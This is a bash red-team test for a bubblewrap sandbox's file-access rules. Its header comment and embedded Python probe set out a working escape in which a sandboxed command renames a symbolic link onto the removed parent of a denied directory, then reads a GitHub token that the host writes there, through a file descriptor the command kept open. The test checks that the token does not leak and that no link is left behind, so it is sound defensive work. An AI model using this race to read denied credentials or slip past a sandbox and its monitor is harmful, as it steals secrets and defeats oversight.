#!/bin/bash
# Escape class H1 (linux-bwrap), red team on d438bd4's judge_create: a
# symbolic link at a free name above a denied one (hides_below) is refused
# when the command makes it with symlink(), not when it moves one there:
# rename() and link() are judged by judge_link_rename, which asks only
# whether a name is denied. 0968's host (allowWrite "~", denyRead
# "~/.config/gh": `mv ~/.config ~/.config.bak`, then `mkdir -p
# ~/.config/gh` and a new token) leaves ~/.config free; the command, which
# made the link ~/lnk -> ~/mycfg beforehand (a free name, nothing
# denied below it), spins on rename(~/lnk, ~/.config). It also made
# ~/mycfg/gh/hosts.yml itself and keeps it open: the host's mkdir -p
# finds gh there, its `echo > hosts.yml` truncates and writes the
# command's own file, and the command reads the token through the
# descriptor it holds (no cover reaches an open file; the monitor sees
# ~/mycfg/gh, no denied name). The link stays on the host after the run.
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1
S=$(fsjson s '{"denyRead":["~/.config/gh"],"allowWrite":[".","~"],"denyWrite":[]}')

cat > "$WORK/probe.py" <<'PYEOF'
import os, sys, time
from below import spin, wait_marker
p = sys.argv[1]
cfg = os.path.join(os.environ["HOME"], ".config")
mine = os.path.join(os.environ["HOME"], "mycfg")
lnk = os.path.join(os.environ["HOME"], "lnk")
os.makedirs(mine + "/gh")
f = open(mine + "/gh/hosts.yml", "w+")
os.symlink(mine, lnk)
res = open(p + "/res", "a")
open(p + "/ready", "w").close()
made, err = spin(lambda: os.rename(lnk, cfg), until=p + "/written")
res.write("renamed\n" if made else "not-moved %s\n" % err)
wait_marker(p, tenths=100)
time.sleep(0.2)
f.seek(0)
res.write("fd: " + f.read())
try:
    res.write("path: " + open(mine + "/gh/hosts.yml").read())
except OSError as e:
    res.write("path read-failed %s\n" % e)
res.write("done\n")
PYEOF

config_stage "$HOME/mycfg" "$HOME/lnk"
config_moved_run "$S"
attempt H1 "link renamed onto the removed parent of the denied ~/.config/gh: the host's new token is not read" \
	no_leak "$P/res"
attempt H1 "link renamed onto the removed parent of the denied ~/.config/gh: no link of the command's making at ~/.config on the host" \
	test ! -L "$HOME/.config"
echo "1..$_tap_n"
